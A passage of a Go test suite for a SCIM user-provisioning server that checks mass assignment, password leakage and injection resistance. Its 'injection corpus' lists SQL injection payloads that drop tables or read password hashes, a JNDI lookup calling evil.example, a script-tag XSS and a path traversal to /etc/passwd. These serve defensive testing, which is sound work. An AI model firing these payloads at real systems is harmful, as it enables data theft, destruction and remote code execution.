			{"meta.location", forgedMeta["location"]}, {"meta.resourceType", "Group"},
			{"groups", forgedGroups}, {"groups.value", adminsID}, {`groups[value eq "` + adminsID + `"].display`, "X"},
			{"schemas", junkSchemas}, {"SCHEMAS", junkSchemas}, {"Meta.Created", forgedMeta["created"]},
			{userSchemaURN + ":id", "forged-id"}, {userSchemaURN + ":meta.created", forgedMeta["created"]},
			{userSchemaURN + ":groups", forgedGroups}, {enterpriseURN + ":manager.displayName", "Forged Manager"},
		}
		before := c.get(t, "/Users/"+id)
		for _, ro := range readOnly {
			for _, kind := range []string{"add", "replace", "remove"} {
				v := ro.value
				if kind == "remove" {
					v = nil
				}
				res = c.do(t, "PATCH", "/Users/"+id, secPatch(op(kind, ro.path, v)))
				counts.add("PATCH with a read-only path", 1)
				if res.Status != http.StatusBadRequest || res.JSON["scimType"] != "mutability" {
					t.Errorf("PATCH %s %s: %d %s, want 400 mutability", kind, ro.path, res.Status, res.Raw)
				}
			}
		}
		if after := c.get(t, "/Users/"+id); !reflect.DeepEqual(after, before) {
			t.Errorf("refused PATCHes changed the user:\nbefore %v\nafter  %v", before, after)
		}

		// Path-less PATCH and PATCH of a complex or extension value: the read-only parts
		// that clients echo back are skipped, the rest applies.
		echoed := []map[string]any{
			op("replace", "", map[string]any{"id": "forged", "meta": forgedMeta, "groups": forgedGroups, "schemas": junkSchemas,
				"displayName": "Mass One", enterpriseURN: map[string]any{"manager": forgedManager}}),
			op("add", "", map[string]any{"ID": "forged", "Meta": forgedMeta, "Groups": forgedGroups, "Schemas": junkSchemas,
				"title": "T", enterpriseURN + ":manager": forgedManager}),
			op("replace", "", map[string]any{userSchemaURN + ":id": "forged", userSchemaURN + ":meta": forgedMeta, "nickName": "N"}),
			op("replace", enterpriseURN+":manager", map[string]any{"value": "mgr-3", "displayName": "Forged Manager"}),
			op("add", enterpriseURN, map[string]any{"manager": map[string]any{"value": "mgr-4", "displayName": "Forged Manager"}}),
			op("replace", enterpriseURN+":manager", "mgr-5"),
		}
		for i, o := range echoed {
			res = c.want(t, http.StatusOK, "PATCH", "/Users/"+id, secPatch(o))
			counts.add("PATCH echoing read-only attributes", 1)
			checkUser(fmt.Sprintf("PATCH %d", i), res.JSON, id, created)
		}
		if got := c.get(t, "/Users/"+id); got["displayName"] != "Mass One" || got["title"] != "T" || got["nickName"] != "N" ||
			at(got, enterpriseURN, "manager", "value") != "mgr-5" {
			t.Errorf("the writable parts of the PATCHes were not applied: %v", got)
		}

		// Groups: id, meta, schemas and the members' type and $ref are the server's.
		checkGroup := func(what string, doc map[string]any, gid, gcreated, member string) {
			t.Helper()
			g, err := db.Groups().Group(ctx, c.c.conn.ID, gid)
			if err != nil {
				t.Fatalf("%s: store: %v", what, err)
			}
			want := map[string]any{
				"created": gcreated, "lastModified": g.LastModified.UTC().Format("2006-01-02T15:04:05.000Z"),
				"version": fmt.Sprintf(`W/"%d"`, g.Version), "location": c.url("/Groups/" + gid), "resourceType": "Group",
			}
			if doc["id"] != gid || !reflect.DeepEqual(doc["meta"], want) {
				t.Errorf("%s: id %v meta %v, want %s %v", what, doc["id"], doc["meta"], gid, want)
			}
			if got := strSlice(doc["schemas"]); !reflect.DeepEqual(got, []string{secGroupURN}) {
				t.Errorf("%s: schemas %v", what, got)
			}
			ms, _ := doc["members"].([]any)
			if len(ms) != 1 || at(ms[0], "value") != member || at(ms[0], "type") != "User" || at(ms[0], "$ref") != c.url("/Users/"+member) {
				t.Errorf("%s: members %v, want the user %s with the server's type and $ref", what, doc["members"], member)
			}
			for _, k := range []string{"id", "meta", "schemas", "members"} {
				if _, ok := g.Attributes[k]; ok {
					t.Errorf("%s: the stored document holds %q", what, k)
				}
			}
		}
		hostileGroup := func(name, gid string) map[string]any {
			return map[string]any{
				"schemas": junkSchemas, "id": gid, "displayName": name, "meta": forgedMeta,
				"members": []any{map[string]any{"value": id, "type": "Group", "$ref": "https://evil.example/Groups/x"}},
			}
		}
		res = c.want(t, http.StatusCreated, "POST", "/Groups", hostileGroup("Mass Group", "forged-group-id"))
		counts.add("POST", 1)
		gid := secStr(res.JSON["id"])
		gcreated := secStr(at(res.JSON, "meta", "created"))
		if gid == "forged-group-id" || gcreated == forgedMeta["created"] {
			t.Fatalf("the client chose the group's id or meta: %s", res.Raw)
		}
		checkGroup("POST group", res.JSON, gid, gcreated, id)
		res = c.want(t, http.StatusOK, "PUT", "/Groups/"+gid, hostileGroup("Mass Group", "forged-group-id-2"))
		counts.add("PUT", 1)
		checkGroup("PUT group", res.JSON, gid, gcreated, id)
		gbefore := c.get(t, "/Groups/"+gid)
		for _, path := range []string{"id", "meta", "meta.created", "meta.version", "meta.location", "schemas",
			secGroupURN + ":id", secGroupURN + ":meta.lastModified"} {
			for _, kind := range []string{"add", "replace", "remove"} {
				var v any = "forged"
				if kind == "remove" {
					v = nil
				}
				res = c.do(t, "PATCH", "/Groups/"+gid, secPatch(op(kind, path, v)))
				counts.add("PATCH with a read-only path", 1)
				if res.Status != http.StatusBadRequest || res.JSON["scimType"] != "mutability" {
					t.Errorf("PATCH group %s %s: %d %s, want 400 mutability", kind, path, res.Status, res.Raw)
				}
			}
		}
		if after := c.get(t, "/Groups/"+gid); !reflect.DeepEqual(after, gbefore) {
			t.Errorf("refused PATCHes changed the group:\nbefore %v\nafter  %v", gbefore, after)
		}
		res = c.want(t, http.StatusOK, "PATCH", "/Groups/"+gid, secPatch(op("replace", "",
			map[string]any{"id": "forged", "meta": forgedMeta, "schemas": junkSchemas, "displayName": "Mass Group 2"})))
		counts.add("PATCH echoing read-only attributes", 1)
		checkGroup("path-less PATCH group", res.JSON, gid, gcreated, id)
		if res.JSON["displayName"] != "Mass Group 2" {
			t.Errorf("the group's displayName was not replaced: %s", res.Raw)
		}
		// A member's display, type and $ref are immutable: adding the member again with
		// other values changes none of them.
		memberBefore := at(c.get(t, "/Groups/"+gid), "members", 0)
		res = c.want(t, http.StatusOK, "PATCH", "/Groups/"+gid, secPatch(op("add", "members", []any{map[string]any{
			"value": id, "display": "Forged Display", "type": "Group", "$ref": "https://evil.example/x"}})))
		counts.add("PATCH echoing read-only attributes", 1)
		if got := at(c.get(t, "/Groups/"+gid), "members", 0); !reflect.DeepEqual(got, memberBefore) {
			t.Errorf("re-adding a member changed it: %v, was %v", got, memberBefore)
		}

		// password: written by POST, PUT and PATCH; never read back, never an oracle.
		answers := []struct {
			method, path string
			body         any
		}{
			// (POST and PUT with the password were answered above.)
			{"PATCH", "/Users/" + id + "?attributes=password,userName", secPatch(op("replace", "password", pw))},
			{"PATCH", "/Users/" + id, secPatch(op("add", "", map[string]any{"password": pw, "displayName": "Mass One"}))},
			{"GET", "/Users/" + id, nil},
			{"GET", "/Users/" + id + "?attributes=password", nil},
			{"GET", "/Users/" + id + "?attributes=" + userSchemaURN + ":password", nil},
			{"GET", "/Users/" + id + "?attributes=password,userName&excludedAttributes=userName", nil},
			{"GET", "/Users/" + id + "?excludedAttributes=password", nil},
			{"GET", "/Users", nil},
			{"GET", "/Users?attributes=password", nil},
			{"GET", "/Users?filter=" + url.QueryEscape(`userName eq "mass-1"`) + "&attributes=password,id", nil},
			{"POST", "/Users/.search", map[string]any{"schemas": []string{searchRequestURN}, "attributes": []string{"password"}}},
			{"POST", "/Users/.search", map[string]any{"schemas": []string{searchRequestURN}, "filter": `userName sw "mass"`}},
			{"GET", "/Groups/" + gid, nil},
			{"GET", "/Groups?attributes=members", nil},
		}
		for _, a := range answers {
			res = c.do(t, a.method, a.path, a.body)
			counts.add("answers checked for the password", 1)
			if res.Status >= 300 {
				t.Errorf("%s %s: %d %s", a.method, a.path, res.Status, res.Raw)
			}
			if bytes.Contains(res.Raw, []byte(pw)) {
				t.Errorf("%s %s returns the password: %s", a.method, a.path, res.Raw)
			}
			if a.method == "PATCH" && (res.Status != http.StatusOK || res.JSON["id"] != id) {
				t.Errorf("PATCH on an Okta connection should answer the resource: %d %s", res.Status, res.Raw)
			}
		}
		for _, f := range []string{`password eq "` + pw + `"`, `password pr`, `password sw "M"`, `not (password pr)`} {
			res = c.list(t, "/Users", "filter", f)
			counts.add("password filters", 1)
			// Either refused or answered as if no user had a password readable: "not (password
			// pr)" may match everyone, the others no one.
			if res.Status == http.StatusOK && !strings.HasPrefix(f, "not") && secTotal(t, f, res) != 0 {
				t.Errorf("filter %s is an oracle for the password: %s", f, res.Raw)
			} else if res.Status != http.StatusOK && res.Status != http.StatusBadRequest {
				t.Errorf("filter %s: %d %s", f, res.Status, res.Raw)
			}
		}
		res = c.list(t, "/Users", "sortBy", "password")
		counts.add("password filters", 1)
		if res.Status != http.StatusOK && res.Status != http.StatusBadRequest {
			t.Errorf("sortBy=password: %d", res.Status)
		}
		u, err := db.Users().User(ctx, c.c.conn.ID, id)
		if err != nil {
			t.Fatal(err)
		}
		if u.PasswordHash == "" || strings.Contains(u.PasswordHash, pw) || secHasKey(u.Attributes, "password") {
			t.Errorf("the password is stored wrongly: hash %q, document %v", u.PasswordHash, u.Attributes)
		}
		if strings.Contains(env.logs.String(), pw) {
			t.Errorf("the password reached the logs")
		}
		counts.log(t, "mass assignment")
	})
}

// ---------------------------------------------------------------------------------------
// 3. Injection corpus

// secHostile is the injection corpus: SQL, LIKE wildcards, regular expressions, JSON path
// syntax of both engines, brackets and quotes that break out of a SCIM filter string,
// keywords, control characters, invalid UTF-8, Unicode that folds surprisingly, and
// strings longer than the limits.
var secHostile = []string{
	// SQL
	`' OR 1=1 --`, `' OR '1'='1`, `" OR ""="`, `") OR 1=1 --`, `"); DROP TABLE scim_users; --`,
	`'; DROP TABLE scim_groups; --`, `' UNION SELECT id, password_hash, doc FROM scim_users --`,
	`' UNION ALL SELECT NULL, NULL --`, `1' AND SLEEP(5) --`, `'; SELECT pg_sleep(5); --`, `admin' --`,
	`' OR user_name_key LIKE '%`, `1 OR 1=1`, `' || (SELECT hash FROM tokens LIMIT 1) || '`, `'/**/OR/**/1=1`,
	`%' AND connection_id <> '`, `'; UPDATE scim_users SET active = false; --`,
	// LIKE wildcards and its escape character
	`%`, `%%`, `_`, `__`, `%_%`, `\`, `\\`, `\%`, `\_`, `%' ESCAPE '!`, `[%]`, `a%b`, `@%.`,
	// regular expressions
	`*`, `.*`, `^.*$`, `(.*)`, `[a-z]+`, `a|b|c`, `(?i)ALICE`, `$^`, `+?{}`, `\d+`, `(a+)+$`,
	// JSON paths and operators of SQLite and PostgreSQL
	`$.`, `$.userName`, `$[*]`, `$..*`, `'{a}'`, `{a,b}`, `'{"userName"}'`, `->>`, `#>> '{}'`, `@> '{}'`,
	`::text`, `json_extract(doc, '$')`, `{"$ne": null}`, `"]`,
	// brackets and quotes
	`)]}`, `((((((((`, `]]]]`, `[[[[`, `"`, `""`, `"""`, `'`, `''`, "`", `\"`, `\u0022`, `"'\`,
	// breaking out of a filter's string literal
	`x" or userName pr or "`, `x") or (userName pr`, `x" or "1" eq "1`, `x"] or emails[value pr`,
	`x" and not (userName pr) or "`,
	// filter keywords and JSON literals
	`and`, `or`, `not`, `pr`, `null`, `true`, `1e309`, `-0`, `NaN`,
	// control characters, invalid UTF-8, Unicode
	"\x00", "a\x00b", "\x00' OR 1=1 --", "\u2028\u2029", "\ufeff", "\u202e", "\xff\xfe", "\xc3\x28",
	"İ", "ß", "\u212a", "ﬁ", "\u0301", "\t\r\n", "\x1f",
	// empty and blank
	"", " ",
	// long
	strings.Repeat("A", 5000), strings.Repeat("%", 1000), strings.Repeat("' or 1=1 ", 40),
	strings.Repeat("(", 100), strings.Repeat("é", 300),
	// other injection families
	"${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>alert(1)</script>", "../../etc/passwd", "%00",
	"%27%20OR%201%3D1", `\x27 OR 1=1`,
}

// secNumbers are hostile values for startIndex and count.
var secNumbers = []string{"-1", "0", "1", "-2147483649", "2147483648", "9223372036854775807", "-9223372036854775808",
	"9223372036854775808", "1e3", "0x10", "+1", " 1", "1 ", "1.5", "NaN", "∞", "١", "00000000000000000001"}

// secFoldNoTrim is case-insensitive comparison as the folded columns do it, without the
// trimming of surrounding space that uniqueness applies.
func secFoldNoTrim(s string) string { return cases.Fold().String(norm.NFKC.String(s)) }

// secMatch says whether the value x of an attribute matches "attr op v": eq, co, sw and ew
// per RFC 7644, case-insensitively (folded: Unicode NFKC and full case folding, as the
// uniqueness of userName and a group's displayName; otherwise lower case).
func secMatch(op string, folded bool, x, v string) bool {
	if op == "eq" {
		if folded {
			return provisioning.FoldKey(x) == provisioning.FoldKey(v)
		}
		return strings.ToLower(x) == strings.ToLower(v)
	}
	if folded {
		x, v = secFoldNoTrim(x), secFoldNoTrim(v)
	} else {
		x, v = strings.ToLower(x), strings.ToLower(v)
	}
	switch op {
	case "co":
		return strings.Contains(x, v)
	case "sw":
		return strings.HasPrefix(x, v)
	case "ew":
		return strings.HasSuffix(x, v)
	}
	return true // gt: not modelled; only "never more than have the attribute" is checked
}

// secQuote writes v as a SCIM filter string literal (a JSON string). literal reports
// whether it needed no escape, so the server compares exactly v.
func secQuote(v string) (quoted string, literal bool) {
	q := string(secEncodeJSON(v))
	return q, q == `"`+v+`"` && utf8.ValidString(v)
}

// secSeed is a resource of the injection test and the values its attributes hold.
type secSeed struct {
	id, name string
	vals     map[string][]string
}

func TestSecurityInjectionCorpus(t *testing.T) {
	if len(secHostile) < 60 {
		t.Fatalf("the corpus has %d entries", len(secHostile))
	}
	dbtest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		env := newSecE2E(t, db)
		c := secConnect(env, "inj", "okta")
		var counts secCounter
		counts.add("corpus entries", len(secHostile))

		// Known users, among them some whose values hold the characters the corpus plays with.
		type seedUser struct {
			userName, displayName, dept string
			emails                      []string
		}
		seedUsers := []seedUser{
			{"alice@example.com", "Alice Anders", "Sales", []string{"alice@example.com", "alice.home@example.org"}},
			{"bob@example.com", "Bob Brown", "R&D", []string{"bob@example.com"}},
			{"carol_100%@example.com", `Carol "C" O'Neil \ [x] (50%)`, "50% off_sale", []string{"carol_100%@example.com"}},
			{"dave", "", "", nil},
			{"canary@example.com", "Canary Bird", "Audit", []string{"canary@example.com"}},
		}
		var users []secSeed
		for _, s := range seedUsers {
			body := map[string]any{"userName": s.userName, "externalId": "ext-" + s.userName}
			vals := map[string][]string{"userName": {s.userName}}
			if s.displayName != "" {
				body["displayName"] = s.displayName
				vals["displayName"] = []string{s.displayName}
			}
			if s.dept != "" {
				body["schemas"] = []string{userSchemaURN, enterpriseURN}
				body[enterpriseURN] = map[string]any{"department": s.dept}
				vals[enterpriseURN+":department"] = []string{s.dept}
			}
			var emails []any
			for i, e := range s.emails {
				emails = append(emails, map[string]any{"value": e, "primary": i == 0})
			}
			if emails != nil {
				body["emails"] = emails
				vals["emails.value"] = s.emails
			}
			doc := c.createUser(t, body)
			users = append(users, secSeed{id: secStr(doc["id"]), name: s.userName, vals: vals})
		}
		uid := func(name string) string {
			for _, u := range users {
				if u.name == name {
					return u.id
				}
			}
			return ""
		}
		var groups []secSeed
		for _, g := range []struct {
			name    string
			members []string
		}{
			{"Admins", []string{uid("alice@example.com"), uid("bob@example.com")}},
			{"Engineering", []string{uid("carol_100%@example.com")}},
			{`50% "quoted" group_`, []string{uid("canary@example.com")}},
			{"Empty", nil},
		} {
			doc := c.createGroup(t, g.name, g.members...)
			vals := map[string][]string{"displayName": {g.name}}
			if g.members != nil {
				vals["members.value"] = g.members
			}
			groups = append(groups, secSeed{id: secStr(doc["id"]), name: g.name, vals: vals})
		}
		target := c.createUser(t, map[string]any{"userName": "patch-target", "displayName": "Patch Target",
			"emails": []any{map[string]any{"value": "target@example.com", "type": "work"}}})
		targetID := secStr(target["id"])
		users = append(users, secSeed{id: targetID, name: "patch-target", vals: map[string][]string{
			"userName": {"patch-target"}, "displayName": {"Patch Target"}, "emails.value": {"target@example.com"}}})
		canaryPath := "/Users/" + uid("canary@example.com")
		canary := c.get(t, canaryPath)
		groupDocs := map[string]map[string]any{}
		for _, g := range groups {
			groupDocs[g.id] = c.get(t, "/Groups/"+g.id)
		}
		nUsers, nGroups := c.count(t, "/Users"), c.count(t, "/Groups")

		type resource struct {
			endpoint, nameAttr string
			seeds              []secSeed
			attrs              map[string]bool // filterable attribute -> folded
		}
		resources := []resource{
			{"/Users", "userName", users, map[string]bool{"userName": true, "displayName": false, "emails.value": false,
				enterpriseURN + ":department": false}},
			{"/Groups", "displayName", groups, map[string]bool{"displayName": true, "members.value": false}},
		}

		// query runs a filter with GET or POST .search and returns the matched names, or
		// nil with ok false when it was refused.
		query := func(res resource, filter string, search bool) (names []string, status int) {
			t.Helper()
			var rep *reply
			var r secReq
			if search {
				r = secReq{method: "POST", url: c.url(res.endpoint + "/.search"), auth: secBearer(c.token), body: map[string]any{
					"schemas": []string{searchRequestURN}, "filter": filter, "attributes": []string{res.nameAttr}, "count": 1000}}
			} else {
				q := url.Values{"filter": {filter}, "attributes": {res.nameAttr}, "count": {"1000"}}
				r = secReq{method: "GET", url: c.url(res.endpoint + "?" + q.Encode()), auth: secBearer(c.token)}
			}
			rep = secSend(t, r)
			counts.add("requests", 1)
			what := fmt.Sprintf("%s %s filter=%q", r.method, res.endpoint, secShortS(filter))
			secCheck(t, what, r, rep)
			if rep.Status != http.StatusOK {
				return nil, rep.Status
			}
			list, _ := rep.JSON["Resources"].([]any)
			for _, e := range list {
				names = append(names, secStr(at(e, res.nameAttr)))
			}
			if total := secTotal(t, what, rep); total != len(names) {
				t.Errorf("%s: totalResults %d but %d resources", what, total, len(names))
			}
			sort.Strings(names)
			return names, rep.Status
		}

		// Spot checks of what matters most, spelled out: LIKE's wildcards are literals, and a
		// string that closes the literal early is just a string.
		for _, sc := range []struct {
			res    int
			filter string
			want   []string
		}{
			{0, `userName co "%"`, []string{"carol_100%@example.com"}},
			{0, `userName co "_"`, []string{"carol_100%@example.com"}},
			{0, `userName sw "%"`, nil},
			{0, `displayName co "%"`, []string{"carol_100%@example.com"}},
			{0, `emails.value co "%@"`, []string{"carol_100%@example.com"}},
			{0, enterpriseURN + `:department co "_"`, []string{"carol_100%@example.com"}},
			{0, `userName eq "' OR 1=1 --"`, nil},
			{0, `displayName eq "x\" or userName pr or \""`, nil},
			{1, `displayName co "%"`, []string{`50% "quoted" group_`}},
			{1, `displayName ew "_"`, []string{`50% "quoted" group_`}},
			{1, `members.value co "%"`, nil},
		} {
			got, status := query(resources[sc.res], sc.filter, false)
			counts.add("spot checks", 1)
			if status != http.StatusOK || !reflect.DeepEqual(got, sc.want) && !(len(got) == 0 && len(sc.want) == 0) {
				t.Errorf("%s filter %s: %d %v, want %v", resources[sc.res].endpoint, sc.filter, status, got, sc.want)
			}
		}

		// The read-only requests run on a few workers; the PATCHes after them one by one.
		var jobs []func()

		// Filter values: every attribute, operator and corpus entry, quoted as a JSON
		// string; then inserted raw, as a careless client would.
		ops := []string{"eq", "co", "sw", "ew", "gt"}
		for _, res := range resources {
			attrNames := make([]string, 0, len(res.attrs))
			for a := range res.attrs {
				attrNames = append(attrNames, a)
			}
			sort.Strings(attrNames)
			for _, attr := range attrNames {
				folded := res.attrs[attr]
				for oi, opName := range ops {
					for vi, v := range secHostile {
						jobs = append(jobs, func() {
							quoted, literal := secQuote(v)
							filter := attr + " " + opName + " " + quoted
							got, status := query(res, filter, (oi+vi)%2 == 1)
							counts.add("filter values", 1)
							var want, have []string
							for _, s := range res.seeds {
								if len(s.vals[attr]) > 0 {
									have = append(have, s.name)
								}
								for _, x := range s.vals[attr] {
									if secMatch(opName, folded, x, v) {
										want = append(want, s.name)
										break
									}
								}
							}
							sort.Strings(want)
							what := fmt.Sprintf("%s filter %s", res.endpoint, secShortS(filter))
							switch {
							case status != http.StatusOK && status != http.StatusBadRequest:
								if status < 500 { // a 5xx is reported by secCheck
									t.Errorf("%s: status %d", what, status)
								}
							case status == http.StatusBadRequest:
								counts.add("filter values refused (400)", 1)
								if literal && len(filter) <= 4096 {
									t.Errorf("%s: a well-formed filter was refused", what)
								}
							case opName == "gt":
								if !secSubset(got, have) {
									t.Errorf("%s matched %v, more than the resources having %s %v", what, got, attr, have)
								}
							case literal:
								if !reflect.DeepEqual(got, want) && !(len(got) == 0 && len(want) == 0) {
									t.Errorf("%s matched %v, want %v", what, got, want)
								}
							default:
								if !secSubset(got, want) {
									t.Errorf("%s matched %v, more than %v", what, got, want)
								}
							}
						})
					}
				}
				for _, v := range secHostile {
					jobs = append(jobs, func() {
						filter := attr + ` eq "` + v + `"`
						got, status := query(res, filter, false)
						counts.add("filter values inserted unquoted", 1)
						if status == http.StatusOK && len(got) > len(res.seeds) {
							t.Errorf("filter %s matched %d resources", secShortS(filter), len(got))
						}
					})
				}
			}
			// The corpus as attribute names.
			for _, v := range secHostile {
				for _, form := range []string{`%s eq "x"`, `%s pr`, `emails[%s eq "x"]`, `name.%s eq "x"`,
					enterpriseURN + `:%s pr`} {
					if res.endpoint != "/Users" && form != `%s eq "x"` {
						continue
					}
					jobs = append(jobs, func() {
						filter := fmt.Sprintf(form, v)
						_, status := query(res, filter, false)
						counts.add("attribute names in filters", 1)
						if status != http.StatusBadRequest {
							t.Errorf("%s filter %s: status %d, want 400", res.endpoint, secShortS(filter), status)
						}
					})
				}
			}

			// sortBy, sortOrder, attributes, excludedAttributes, startIndex and count.
			total := len(res.seeds)
			params := func(name string, values []string, accepted func(string) bool) {
				for _, v := range values {
					jobs = append(jobs, func() {
						q := url.Values{name: {v}}
						r := secReq{method: "GET", url: c.url(res.endpoint + "?" + q.Encode()), auth: secBearer(c.token)}
						rep := secSend(t, r)
						what := fmt.Sprintf("GET %s?%s=%q", res.endpoint, name, secShortS(v))
						secCheck(t, what, r, rep)
						counts.add(name, 1)
						counts.add("requests", 1)
						switch rep.Status {
						case http.StatusOK:
							if accepted != nil && !accepted(v) {
								t.Errorf("%s: accepted", what)
							}
							if n := secTotal(t, what, rep); n != total {
								t.Errorf("%s: totalResults %d, want %d", what, n, total)
							}
							if ids := secResourceIDs(rep); len(ids) > total || secContains(ids, "") {
								t.Errorf("%s: resources %v", what, ids)
							}
						case http.StatusBadRequest:
						default:
							t.Errorf("%s: status %d", what, rep.Status)
						}
					})
				}
			}
			params("sortBy", secHostile, func(v string) bool { return v == "" })
			params("sortOrder", secHostile, func(v string) bool { return v == "" })
			params("attributes", secHostile, nil)
			params("excludedAttributes", secHostile, nil)
			params("startIndex", append(append([]string{}, secNumbers...), secHostile...), nil)
			params("count", append(append([]string{}, secNumbers...), secHostile...), nil)

			// The same in a .search body, where the JSON types are the client's too.
			odd := []any{nil, true, -1, 1e300, "1", []any{"x"}, []any{1, nil}, map[string]any{"$gt": ""}}
			for _, field := range []string{"sortBy", "sortOrder", "attributes", "excludedAttributes", "startIndex", "count", "filter"} {
				values := odd
				if res.endpoint == "/Users" && (field == "sortBy" || field == "attributes") {
					values = append(secAnySlice(secHostile), odd...)
				}
				for _, v := range values {
					jobs = append(jobs, func() {
						if field == "attributes" {
							if s, ok := v.(string); ok {
								v = []any{s}
							}
						}
						body := map[string]any{"schemas": []string{searchRequestURN}, field: v}
						r := secReq{method: "POST", url: c.url(res.endpoint + "/.search"), auth: secBearer(c.token), body: body}
						rep := secSend(t, r)
						what := fmt.Sprintf("POST %s/.search {%q: %q}", res.endpoint, field, secShortS(fmt.Sprint(v)))
						secCheck(t, what, r, rep)
						counts.add(".search bodies", 1)
						counts.add("requests", 1)
						switch {
						case rep.Status == http.StatusOK && field != "filter":
							if n := secTotal(t, what, rep); n != total {
								t.Errorf("%s: totalResults %d, want %d", what, n, total)
							}
						case rep.Status == http.StatusOK:
							if secTotal(t, what, rep) > total {
								t.Errorf("%s: totalResults over the total", what)
							}
						case rep.Status != http.StatusBadRequest:
							t.Errorf("%s: status %d", what, rep.Status)
						}
					})
				}
			}
		}
		secRun(jobs, 4)

		// PATCH paths.
		patch := func(path string, body any, wantStatus ...int) {
			t.Helper()
			r := secReq{method: "PATCH", url: c.url(path), auth: secBearer(c.token), body: body}
			rep := secSend(t, r)
			what := fmt.Sprintf("PATCH %s %s", path, secShortS(string(secEncodeJSON(body))))
			secCheck(t, what, r, rep)
			counts.add("PATCH paths", 1)
			counts.add("requests", 1)
			for _, s := range wantStatus {
				if rep.Status == s {
					return
				}
			}
			t.Errorf("%s: status %d, want one of %v: %s", what, rep.Status, wantStatus, secShort(rep.Raw))
		}
		admins := groups[0]
		for i, v := range secHostile {
			quoted, _ := secQuote(v)
			// The corpus entry as the whole path: never a valid one.
			kind := []string{"add", "replace", "remove"}[i%3]
			var value any = "x"
			if kind == "remove" {
				value = nil
			}
			patch("/Users/"+targetID, secPatch(op(kind, v, value)), http.StatusBadRequest)
			patch("/Groups/"+admins.id, secPatch(op([]string{"replace", "remove", "add"}[i%3], v, value)), http.StatusBadRequest)
			if strings.TrimSpace(v) == "" {
				// "urn:...:User:" is the extension's URN with a stray colon: replacing it
				// with a string is refused, as it should be.
				patch("/Users/"+targetID, secPatch(op("replace", enterpriseURN+":"+v, "x")), http.StatusBadRequest)
			} else {
				patch("/Users/"+targetID, secPatch(op(kind, enterpriseURN+":"+v, value)), http.StatusBadRequest)
			}
			// Inside a value filter or as a sub-attribute: refused, or a removal of nothing.
			for _, path := range []string{"emails[value eq " + quoted + "]", "emails[" + v + "]", "name." + v} {
				patch("/Users/"+targetID, secPatch(op("remove", path, nil)), http.StatusOK, http.StatusBadRequest)
			}
			patch("/Groups/"+admins.id, secPatch(op("remove", "members[value eq "+quoted+"]", nil)), http.StatusOK, http.StatusBadRequest)
		}

		// The corpus as resource ids in the path: no such resource, never an error of the
		// database.
		for i, v := range secHostile {
			if strings.TrimSpace(v) == "" {
				continue // "/Users/" is the collection
			}
			for j, m := range [][2]string{{"GET", "/Users/"}, {"DELETE", "/Users/"}, {"PATCH", "/Groups/"}, {"PUT", "/Groups/"}} {
				if (i+j)%2 == 1 && m[0] != "GET" {
					continue
				}
				var body any
				switch m[0] {
				case "PATCH":
					body = secPatch(op("replace", "displayName", "x"))
				case "PUT":
					body = map[string]any{"schemas": []string{secGroupURN}, "displayName": "x"}
				}
				r := secReq{method: m[0], url: c.url(m[1] + url.PathEscape(v)), auth: secBearer(c.token), body: body}
				rep := secSend(t, r)
				what := fmt.Sprintf("%s %s%q", m[0], m[1], secShortS(v))
				secCheck(t, what, r, rep)
				counts.add("ids in paths", 1)
				counts.add("requests", 1)
				switch rep.Status {
				case http.StatusNotFound, http.StatusBadRequest, http.StatusMethodNotAllowed:
				default:
					if rep.Status < 500 {
						t.Errorf("%s: status %d: %s", what, rep.Status, secShort(rep.Raw))
					}
				}
			}
		}

		// Nothing changed: the same number of users and groups, the canary and every
		// group as they were.
		if n := c.count(t, "/Users"); n != nUsers {
			t.Errorf("%d users after the corpus, %d before", n, nUsers)
		}
		if n := c.count(t, "/Groups"); n != nGroups {
			t.Errorf("%d groups after the corpus, %d before", n, nGroups)
		}
		if got := c.get(t, canaryPath); !reflect.DeepEqual(got, canary) {
			t.Errorf("the canary changed:\nbefore %v\nafter  %v", canary, got)
		}
		for id, want := range groupDocs {
			// A PATCH that removes nothing still counts as a write (version and
			// lastModified move); what matters is that the group is the same.
			got := c.get(t, "/Groups/"+id)
			delete(got, "meta")
			want = maps.Clone(want)
			delete(want, "meta")
			if !reflect.DeepEqual(got, want) {
				t.Errorf("group %v changed:\nbefore %v\nafter  %v", want["displayName"], want, got)
			}
		}
		if got := c.get(t, "/Users/"+targetID); got["userName"] != "patch-target" || got["displayName"] != "Patch Target" {
			t.Errorf("the PATCH target changed: %v", got)
		}

		// The corpus as stored values: each entry becomes a user's displayName and
		// department, comes back exactly as sent, and an eq filter finds exactly the users
		// that hold it.
		rt := secConnect(env, "inj-rt", "generic")
		stored := map[string]string{} // userName -> displayName as stored
		for i, v := range secHostile {
			var sent string
			_ = json.Unmarshal(secEncodeJSON(v), &sent) // what a JSON client can send: invalid UTF-8 becomes U+FFFD
			name := fmt.Sprintf("rt-%03d", i)
			body := map[string]any{"schemas": []string{userSchemaURN, enterpriseURN}, "userName": name, "displayName": sent,
				enterpriseURN: map[string]any{"department": sent}}
			rep := rt.do(t, "POST", "/Users", body)
			counts.add("stored values", 1)
			counts.add("requests", 1)
			switch rep.Status {
			case http.StatusCreated:
				if rep.JSON["displayName"] != sent && sent != "" {
					t.Errorf("displayName %q came back as %q", sent, rep.JSON["displayName"])
				}
				if sent != "" {
					stored[name] = sent
				}
			case http.StatusBadRequest:
			default:
				t.Errorf("POST a user with displayName %q: status %d", secShortS(sent), rep.Status)
			}
		}
		// NUL, which PostgreSQL cannot store in text or jsonb, anywhere a client can put a
		// string: accepted or refused with 400, never a 500.
		rtUser := rt.createUser(t, map[string]any{"userName": "nul-target"})
		rtGroup := rt.createGroup(t, "nul-group")
		for _, nul := range []struct {
			method, path string
			body         any
		}{
			{"POST", "/Users", map[string]any{"schemas": []string{userSchemaURN}, "userName": "nul\x00user"}},
			{"POST", "/Users", map[string]any{"schemas": []string{userSchemaURN}, "userName": "nul-ext", "externalId": "e\x00"}},
			{"PATCH", "/Users/" + secStr(rtUser["id"]), secPatch(op("replace", "nickName", "n\x00"))},
			{"PATCH", "/Users/" + secStr(rtUser["id"]), secPatch(op("add", "emails", []any{map[string]any{"value": "a\x00@example.com"}}))},
			{"POST", "/Groups", map[string]any{"schemas": []string{secGroupURN}, "displayName": "nul\x00group"}},
			{"POST", "/Groups", map[string]any{"schemas": []string{secGroupURN}, "displayName": "nul-members",
				"members": []any{map[string]any{"value": "a\x00b"}}}},
			{"PATCH", "/Groups/" + secStr(rtGroup["id"]), secPatch(op("add", "members", []any{map[string]any{"value": "a\x00b"}}))},
